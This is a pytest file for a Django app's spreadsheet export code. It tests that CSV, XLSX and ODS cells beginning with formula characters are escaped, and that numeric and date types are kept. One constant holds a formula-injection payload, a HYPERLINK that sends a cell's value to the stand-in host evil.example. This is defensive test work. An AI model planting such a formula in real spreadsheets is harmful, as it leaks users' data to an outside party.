import csv
import io
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
import tablib
from django.utils.translation import gettext_lazy

from mutualis.core.exports import FORMULA_PREFIXES, export_dataset, export_response, safe_cell

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A3,"Ouvrir")'


def rows_of(response, fmt: str) -> list[list]:
    """The exported sheet read back: CSV as text, XLSX as (value, data type), ODS as tablib reads it."""
    if fmt == "csv":
        return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    if fmt == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        return [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows()]
    dataset = tablib.Dataset().load(response.content, format="ods")
    return [dataset.headers, *dataset]


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES, ids=repr)
def test_a_text_starting_like_a_formula_gets_an_apostrophe(prefix):
    assert safe_cell(f"{prefix}1+1") == f"'{prefix}1+1"


def test_other_text_is_left_as_it_is():
    assert safe_cell("Jouhe =1") == "Jouhe =1"
    assert safe_cell("'=1") == "'=1"


def test_numbers_dates_and_booleans_keep_their_type():
    for value in (Decimal("-12.50"), -12.5, -3, date(2026, 3, 18), True):
        assert safe_cell(value) is value


def test_lazy_text_and_objects_are_escaped_as_text():
    assert safe_cell(gettext_lazy("-moins")) == "'-moins"
    assert safe_cell(None) == ""


def export(fmt: str, *row):
    return export_response(export_dataset(["Objet", "Montant"], [row]), fmt, "test")


def test_csv_escapes_text_and_keeps_a_negative_amount_a_number():
    rows = rows_of(export("csv", FORMULA, Decimal("-12.50")), "csv")
    assert rows[1] == ["'" + FORMULA, "-12,50"]


def test_xlsx_writes_text_as_strings_and_amounts_as_numbers():
    rows = rows_of(export("xlsx", FORMULA, -12.5), "xlsx")
    assert rows[1] == [("'" + FORMULA, "s"), (-12.5, "n")]


def test_xlsx_writes_an_error_code_as_a_string():
    assert rows_of(export("xlsx", "#N/A", 1), "xlsx")[1][0] == ("#N/A", "s")


def test_xlsx_drops_characters_the_format_cannot_hold():
    assert rows_of(export("xlsx", "a\x01b", 1), "xlsx")[1][0] == ("ab", "s")


def test_ods_escapes_text_and_keeps_a_negative_amount_a_number():
    rows = rows_of(export("ods", "@SUM(A1)", Decimal("-12.5")), "ods")
    assert list(rows[1]) == ["'@SUM(A1)", -12.5]


def test_headers_are_escaped_too():
    response = export_response(export_dataset(["-Objet"], [["a"]]), "csv", "test")
    assert rows_of(response, "csv")[0] == ["'-Objet"]
